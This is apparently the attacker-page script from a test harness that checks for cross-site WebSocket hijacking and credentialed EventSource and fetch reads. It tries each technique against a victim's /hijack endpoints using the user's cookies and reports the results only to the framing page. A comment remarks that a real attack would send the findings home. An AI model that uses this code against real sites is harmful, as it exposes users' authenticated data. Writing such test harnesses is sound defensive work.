/**
 * The hostile page's script. It asks for nothing but what any page may: its victim is the page that shows it in a frame,
 * which says "go" and is told what happened. A real one would say nothing, and send what it finds home.
 */
// #region attack
/** Opens a WebSocket to the victim. The browser adds its cookies, and the name of this page's origin. */
function tryWebSocket(address) {
  return new Promise((done) => {
    const read = [];
    const socket = new WebSocket(address.replace(/^http/, 'ws'));
    socket.onmessage = ({ data }) => read.push(data);
    socket.onclose = ({ code }) => done({ read, end: `close ${code}` });
  });
}

/** Reads one event of a stream, if the browser hands it over. */
function tryEventSource(address, withCredentials) {
  return new Promise((done) => {
    const source = new EventSource(address, { withCredentials });
    source.onmessage = ({ data }) => end({ read: [data], end: 'message' });
    source.onerror = () => end({ read: [], end: 'error' });
    const end = (what) => {
      source.close();
      done(what);
    };
  });
}

/** Reads an answer with fetch, cookies included. */
async function tryFetch(address) {
  try {
    const answer = await fetch(address, { credentials: 'include' });
    return { read: [await answer.text()], end: String(answer.status) };
  } catch (error) {
    return { read: [], end: error.name };
  }
}
// #endregion

const doing = document.getElementById('doing');
document.getElementById('origin').textContent = location.origin;

async function attack(victim, id, tell) {
  const events = `${victim}/hijack/events?attack=${id}&cors=`;
  const attempts = {
    open: () => tryWebSocket(`${victim}/hijack/open?attack=${id}`),
    listed: () => tryWebSocket(`${victim}/hijack/listed?attack=${id}`),
    none: () => tryEventSource(`${events}none`, true),
    named: () => tryEventSource(`${events}named`, false),
    credentials: () => tryEventSource(`${events}credentials`, true),
    any: () => tryFetch(`${events}any`),
  };
  for (const [what, go] of Object.entries(attempts)) {
    doing.textContent = what;
    tell({ type: 'attempt', what, ...(await go()) });
  }
  doing.textContent = '';
  tell({ type: 'over' });
}

let busy = false;
addEventListener('message', async ({ data, origin, source }) => {
  if (source !== parent || busy || data?.type !== 'go' || !/^[0-9a-f]{32}$/.test(data.attack)) return;
  busy = true;
  await attack(origin, data.attack, (message) => parent.postMessage({ ...message, attack: data.attack }, origin));
  busy = false;
});
if (parent !== window) parent.postMessage({ type: 'ready' }, '*');
